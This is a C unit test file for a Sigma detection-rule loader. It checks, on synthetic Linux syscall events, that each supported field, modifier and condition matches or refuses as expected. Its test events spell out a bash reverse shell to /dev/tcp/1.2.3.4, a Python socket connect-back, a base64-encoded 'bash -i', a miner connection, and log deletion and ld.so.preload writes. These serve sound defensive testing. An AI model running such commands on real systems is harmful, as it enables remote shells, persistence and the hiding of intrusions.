// SPDX-License-Identifier: MIT
/*
 * test_sigma.c: Sigma rules (replay/sigma/) on synthetic events: every
 * category, field, modifier and condition form the loader supports, each
 * with an event that matches and one that does not; and every kind of rule
 * it refuses, with the reason.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "sig_synth.h"
#include "sigma/sigma.h"

#define HEAD(cat) "title: T\nid: r-1\nlevel: high\ntags: [attack.execution, attack.t1059.004]\n" \
		  "logsource:\n  product: linux\n  category: " cat "\ndetection:\n"

static int count_finding(void *ctx, const struct tr_finding *f)
{
	(*(int *)ctx)++;
	return 0;
}

/* Findings of the rule on the events (NULL-ended); -1 if refused. */
static int fire(const char *yaml, const char *const *events)
{
	struct tr_sigma *s = tr_sigma__new();
	struct ss_ctx sc = { .tree = tr_proctree__new() };
	const struct tr_signature *const *sigs;
	struct tr_sigset *set;
	char err[512];
	size_t n;
	int found = 0, rc;

	rc = tr_sigma__load_buffer(s, "t.yml", yaml, strlen(yaml), err, sizeof(err));
	if (rc) {
		print_message("refused: %s\n", err);
		tr_sigma__free(s);
		tr_proctree__free(sc.tree);
		return -1;
	}
	sigs = tr_sigma__sigs(s, &n);
	assert_int_equal(n, 1);
	assert_int_equal(tr_sigset__new(&set, sigs, n, sc.tree, count_finding, &found), 0);
	for (; *events; events++) {
		struct ss_event *e = calloc(1, sizeof(*e));

		ss_build(&sc, e, *events);
		e->v.ordinal = sc.ts;
		assert_int_equal(tr_sigset__event(set, &e->v), 0);
		free(e);
	}
	tr_sigset__free(set);
	tr_sigma__free(s);
	tr_proctree__free(sc.tree);
	return found;
}

#define FIRE(yaml, ...) fire(yaml, (const char *const[]){ __VA_ARGS__, NULL })

static const char *refusal(const char *yaml)
{
	static char err[512];
	struct tr_sigma *s = tr_sigma__new();
	int rc = tr_sigma__load_buffer(s, "t.yml", yaml, strlen(yaml), err, sizeof(err));

	assert_int_equal(tr_sigma__refused(s), rc == 1);
	tr_sigma__free(s);
	return rc == 1 ? err : NULL;
}

#define EXEC(cmd, argv) "sched_process_exec: cmdpath=" cmd " pathname=" cmd " argv=" argv

static void test_process_creation(void **state)
{
	const char *r = HEAD("process_creation") "  sel:\n    Image|endswith: '/bash'\n"
			"    CommandLine|contains: '/dev/tcp/'\n  condition: sel\n";

	assert_int_equal(FIRE(r, EXEC("/usr/bin/bash", "bash|-c|bash -i >& /dev/tcp/1.2.3.4/9 0>&1")), 1);
	assert_int_equal(FIRE(r, EXEC("/usr/bin/bash", "bash|-c|echo hi")), 0);
	assert_int_equal(FIRE(r, EXEC("/usr/bin/zsh", "zsh|-c|cat /dev/tcp/x")), 0);
	/* case-insensitive by default, cased when asked */
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine: 'ECHO HI'\n  condition: sel\n",
			      EXEC("/bin/echo", "echo|hi")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|cased: 'ECHO HI'\n  condition: sel\n",
			      EXEC("/bin/echo", "echo|hi")), 0);
	/* wildcards and escapes */
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    Image: '/usr/*/ba?h'\n  condition: sel\n",
			      EXEC("/usr/bin/bash", "bash")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine: 'a\\*b'\n  condition: sel\n",
			      EXEC("/bin/x", "a*b")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine: 'a\\*b'\n  condition: sel\n",
			      EXEC("/bin/x", "axxb")), 0);
	/* OriginalFileName, ParentImage, User, ProcessId, CurrentDirectory */
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    OriginalFileName: 'nc'\n    User: root\n"
			      "    ProcessId: 100\n  condition: sel\n", EXEC("/usr/bin/nc", "nc")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    ParentImage|endswith: '/nginx'\n  condition: sel\n",
			      EXEC("/bin/sh", "sh") " @pexe=/usr/sbin/nginx"), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    ParentImage|endswith: '/nginx'\n  condition: sel\n",
			      EXEC("/bin/sh", "sh") " @pexe=/usr/sbin/sshd"), 0);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CurrentDirectory: '/srv'\n  condition: sel\n",
			      EXEC("/bin/sh", "sh") " @cwd=/srv"), 1);
}

static void test_modifiers(void **state)
{
	const char *ev = EXEC("/usr/bin/python3", "python3|-c|import socket;s.connect(('10.0.0.1',4444))");

	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|contains|all:\n      - socket\n"
			      "      - connect\n  condition: sel\n", ev), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|contains|all:\n      - socket\n"
			      "      - subprocess\n  condition: sel\n", ev), 0);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|startswith: 'PYTHON3 -c'\n  condition: sel\n", ev), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|re: 'connect\\(\\(.10\\.'\n  condition: sel\n", ev), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|re: 'CONNECT'\n  condition: sel\n", ev), 0);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|re|i: 'CONNECT'\n  condition: sel\n", ev), 1);
	/* base64 of "bash -i" is YmFzaCAtaQ; base64offset finds it at any offset */
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|base64|contains: 'bash -i'\n  condition: sel\n",
			      EXEC("/bin/sh", "sh|-c|echo YmFzaCAtaQ | base64 -d")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|base64offset|contains: 'bash -i'\n  condition: sel\n",
			      EXEC("/bin/sh", "sh|-c|echo eHh4YmFzaCAtaSA+JiAvZGV2 | base64 -d")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|base64offset|contains: 'bash -i'\n  condition: sel\n",
			      EXEC("/bin/sh", "sh|-c|echo aGVsbG8 | base64 -d")), 0);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CommandLine|windash|contains: ' -exec '\n  condition: sel\n",
			      EXEC("/usr/bin/find", "find|.|/exec|sh")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CurrentDirectory|exists: true\n  condition: sel\n",
			      EXEC("/bin/sh", "sh")), 0);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CurrentDirectory|exists: false\n  condition: sel\n",
			      EXEC("/bin/sh", "sh")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    CurrentDirectory: null\n  condition: sel\n",
			      EXEC("/bin/sh", "sh")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    ProcessId|lt: 101\n    ProcessId|gte: 100\n  condition: sel\n",
			      EXEC("/bin/sh", "sh")), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    ProcessId|gt: 100\n  condition: sel\n",
			      EXEC("/bin/sh", "sh")), 0);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    ProcessId|lte: 100\n  condition: sel\n",
			      EXEC("/bin/sh", "sh")), 1);
}

static void test_conditions(void **state)
{
	const char *ev = EXEC("/usr/bin/curl", "curl|-o|/tmp/x|http://example.com/p");
	const char *base = HEAD("process_creation") "  sel_a:\n    Image|endswith: '/curl'\n"
			   "  sel_b:\n    CommandLine|contains: ' -o '\n  filter_x:\n    CommandLine|contains: 'example.com'\n"
			   "  _hidden:\n    Image: '/nothing'\n";
	char r[2048];
	static const struct {
		const char *cond;
		int want;
	} cases[] = {
		{ "sel_a and sel_b", 1 },
		{ "sel_a and not filter_x", 0 },
		{ "sel_a and not (filter_x or sel_b)", 0 },
		{ "(sel_a or filter_x) and sel_b", 1 },
		{ "1 of sel_*", 1 },
		{ "all of sel_*", 1 },
		{ "all of sel_* and not 1 of filter_*", 0 },
		{ "1 of them", 1 },
		{ "all of them", 1 },	/* _hidden is not one of them */
		{ "_hidden", 0 },
		{ "not sel_a", 0 },
		{ "not not sel_a", 1 },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(r, sizeof(r), "%s  condition: %s\n", base, cases[i].cond);
		if (FIRE(r, ev) != cases[i].want)
			fail_msg("condition '%s' should give %d", cases[i].cond, cases[i].want);
	}
	/* a list of conditions: any; a list of maps: any */
	snprintf(r, sizeof(r), "%s  condition:\n    - filter_x and _hidden\n    - sel_b\n", base);
	assert_int_equal(FIRE(r, ev), 1);
	assert_int_equal(FIRE(HEAD("process_creation") "  sel:\n    - Image: /nothing\n    - CommandLine|contains: curl\n"
			      "  condition: sel\n", ev), 1);
}

static void test_file_categories(void **state)
{
	const char *ev_create = "openat: dirfd=-100 pathname=/etc/cron.d/job flags=0101 @ret=3";
	const char *ev_read = "openat: dirfd=-100 pathname=/etc/cron.d/job flags=0 @ret=3";

	assert_int_equal(FIRE(HEAD("file_event") "  sel:\n    TargetFilename|startswith: '/etc/cron.d/'\n  condition: sel\n",
			      ev_create), 1);
	assert_int_equal(FIRE(HEAD("file_event") "  sel:\n    TargetFilename|startswith: '/etc/cron.d/'\n  condition: sel\n",
			      ev_read), 0);
	assert_int_equal(FIRE(HEAD("file_event") "  sel:\n    TargetFilename: '/etc/ld.so.preload'\n  condition: sel\n",
			      "rename: oldpath=/tmp/p newpath=/etc/ld.so.preload"), 1);
	assert_int_equal(FIRE(HEAD("file_delete") "  sel:\n    TargetFilename|startswith: '/var/log/'\n  condition: sel\n",
			      "unlinkat: dirfd=-100 pathname=/var/log/auth.log flags=0"), 1);
	assert_int_equal(FIRE(HEAD("file_delete") "  sel:\n    TargetFilename|startswith: '/var/log/'\n  condition: sel\n",
			      "unlinkat: dirfd=-100 pathname=/var/log/auth.log flags=0 @ret=-2"), 0);
	assert_int_equal(FIRE(HEAD("file_delete") "  sel:\n    TargetFilename|startswith: '/var/log/'\n  condition: sel\n",
			      ev_create), 0);
	assert_int_equal(FIRE(HEAD("file_rename") "  sel:\n    SourceFilename|startswith: '/var/log/'\n"
			      "    TargetFilename|endswith: '.bak'\n  condition: sel\n",
			      "renameat2: olddirfd=-100 oldpath=/var/log/syslog newdirfd=-100 newpath=/tmp/s.bak flags=0"), 1);
	assert_int_equal(FIRE(HEAD("file_rename") "  sel:\n    SourceFilename|startswith: '/var/log/'\n  condition: sel\n",
			      "rename: oldpath=/tmp/a newpath=/var/log/b"), 0);
}

static void test_network(void **state)
{
	const char *ev = "connect: sockfd=3 addr=inet:10.1.2.3:3333 @comm=xmrig";

	assert_int_equal(FIRE(HEAD("network_connection") "  sel:\n    DestinationPort: 3333\n    Initiated: 'true'\n"
			      "  condition: sel\n", ev), 1);
	assert_int_equal(FIRE(HEAD("network_connection") "  sel:\n    DestinationIp|cidr: '10.0.0.0/8'\n  condition: sel\n", ev), 1);
	assert_int_equal(FIRE(HEAD("network_connection") "  sel:\n    DestinationIp|cidr:\n      - '192.168.0.0/16'\n"
			      "      - '172.16.0.0/12'\n  condition: sel\n", ev), 0);
	assert_int_equal(FIRE(HEAD("network_connection") "  sel:\n    DestinationIp|cidr: 'fd00::/8'\n  condition: sel\n",
			      "connect: sockfd=3 addr=inet6:fd00::1:443"), 1);
	assert_int_equal(FIRE(HEAD("network_connection") "  sel:\n    DestinationPort: 3333\n  condition: sel\n",
			      "connect: sockfd=3 addr=unix:/run/x.sock"), 0);
	assert_int_equal(FIRE(HEAD("network_connection") "  sel:\n    Protocol: tcp\n  condition: sel\n",
			      "security_socket_connect: sockfd=3 type=1 remote_addr=inet:10.1.2.3:80"), 1);
	assert_int_equal(FIRE(HEAD("network_connection") "  sel:\n    DestinationHostname|exists: true\n  condition: sel\n", ev), 0);
}

static void test_refused(void **state)
{
	static const struct {
		const char *yaml;
		const char *reason;
	} cases[] = {
		{ "title: T\nid: x\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n"
		  "  sel:\n    Image: x\n  condition: sel\n", "unsupported logsource: product windows" },
		{ HEAD("dns_query") "  sel:\n    Image: x\n  condition: sel\n", "unsupported logsource: category dns_query" },
		{ HEAD("process_creation") "  kw:\n    - evil\n  condition: kw\n", "unsupported detection: keyword" },
		{ HEAD("process_creation") "  sel:\n    Image: x\n  condition: sel | count() by User > 3\n",
		  "unsupported condition: aggregation" },
		{ HEAD("process_creation") "  sel:\n    Image: x\n  condition: sel\n  timeframe: 5m\n", "unsupported condition: timeframe" },
		{ HEAD("process_creation") "  sel:\n    Image|utf16le: x\n  condition: sel\n", "unsupported modifier: utf16le" },
		{ HEAD("process_creation") "  sel:\n    Image|expand: '%x%'\n  condition: sel\n", "unsupported modifier: expand" },
		{ HEAD("process_creation") "  sel:\n    Imphash: x\n  condition: sel\n", "unsupported field: Imphash" },
		{ HEAD("process_creation") "  sel:\n    Image|re: '(('\n  condition: sel\n", "invalid regular expression" },
		{ HEAD("process_creation") "  sel:\n    Image: x\n  condition: sel and nope\n", "'nope' is not a search" },
		{ HEAD("process_creation") "  sel:\n    Image: x\n  condition: (sel\n", "without its ')'" },
		{ HEAD("process_creation") "  sel:\n    Image: x\n  condition: 1 of nothing*\n", "names no search" },
		{ HEAD("process_creation") "  sel:\n    DestinationIp|cidr: 'x/99'\n  condition: sel\n", "not a CIDR" },
		{ "title: T\nid: x\n---\ntitle: U\nid: y\n", "unsupported rule collection" },
		{ "title: [\n", "invalid YAML: line" },
		{ "title: T\nlogsource:\n  category: process_creation\ndetection:\n  sel:\n    Image: x\n  condition: sel\n",
		  "not a rule: no id" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *err = refusal(cases[i].yaml);

		if (!err || !strstr(err, cases[i].reason))
			fail_msg("case %zu: refusal '%s', expected '%s'", i, err ? err : "(loaded)", cases[i].reason);
	}
}

/* Findings carry the rule's id, title, level (-> severity) and tags (-> MITRE). */
static void test_metadata(void **state)
{
	struct tr_sigma *s = tr_sigma__new();
	const char *y = "title: Some Rule\nid: 0000-1\nlevel: critical\ndescription: d\n"
			"tags: [attack.defense_evasion, attack.t1070.003]\nlogsource:\n  category: file_delete\n"
			"detection:\n  sel:\n    TargetFilename|endswith: x\n  condition: sel\n";
	const struct tr_signature *const *sigs;
	char err[256];
	size_t n;

	assert_int_equal(tr_sigma__load_buffer(s, "t.yml", y, strlen(y), err, sizeof(err)), 0);
	assert_int_equal(tr_sigma__load_buffer(s, "u.yml", y, strlen(y), err, sizeof(err)), 1);
	assert_non_null(strstr(err, "duplicate id"));
	sigs = tr_sigma__sigs(s, &n);
	assert_int_equal(n, 1);
	assert_string_equal(sigs[0]->id, "0000-1");
	assert_string_equal(sigs[0]->name, "Some Rule");
	assert_int_equal(sigs[0]->severity, 3);
	assert_string_equal(sigs[0]->level, "critical");
	assert_string_equal(sigs[0]->mitre_id, "T1070.003");
	assert_string_equal(sigs[0]->category, "defense-evasion");
	assert_int_equal(sigs[0]->ntags, 2);
	assert_int_equal(tr_sig__validate(sigs[0], err, sizeof(err)), 0);
	tr_sigma__free(s);
}

/* The checked-in rules: every one loads; the refused set is all refused. */
static void test_fixtures(void **state)
{
	struct tr_sigma *s = tr_sigma__new();
	char err[512];
	size_t n;

	assert_int_equal(tr_sigma__load(s, "../fixtures/sigma", NULL, NULL, err, sizeof(err)), 0);
	tr_sigma__sigs(s, &n);
	assert_true(n >= 16);
	assert_int_equal(tr_sigma__refused(s), 0);
	assert_int_equal(tr_sigma__load(s, "../fixtures/sigma-refused", NULL, NULL, err, sizeof(err)), 0);
	tr_sigma__sigs(s, &n);
	assert_true(n >= 16);
	assert_true(tr_sigma__refused(s) >= 7);
	assert_int_equal(tr_sigma__load(s, "../fixtures/no-such-dir", NULL, NULL, err, sizeof(err)), -ENOENT);
	assert_non_null(strstr(err, "no-such-dir: cannot open"));
	tr_sigma__free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_process_creation),
		cmocka_unit_test(test_modifiers),
		cmocka_unit_test(test_conditions),
		cmocka_unit_test(test_file_categories),
		cmocka_unit_test(test_network),
		cmocka_unit_test(test_refused),
		cmocka_unit_test(test_metadata),
		cmocka_unit_test(test_fixtures),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
